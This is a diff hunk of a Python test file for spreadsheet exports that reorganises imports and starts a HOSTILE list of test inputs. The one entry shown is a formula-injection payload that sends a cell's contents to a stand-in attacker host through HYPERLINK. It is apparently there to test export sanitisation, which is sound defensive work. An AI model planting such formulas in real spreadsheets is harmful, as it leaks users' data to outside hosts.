@@ -12,9 +12,9 @@ from typing import Any
 import openpyxl
 import pytest
 
-from dnc import exports
-from dnc.api.view_history import HistoryItem
-from dnc.entries import Entry, EntryKey, Source
+from dnc.api.view.history import HistoryItem
+from dnc.domain.entries import Entry, EntryKey, Source
+from dnc.files import exports
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
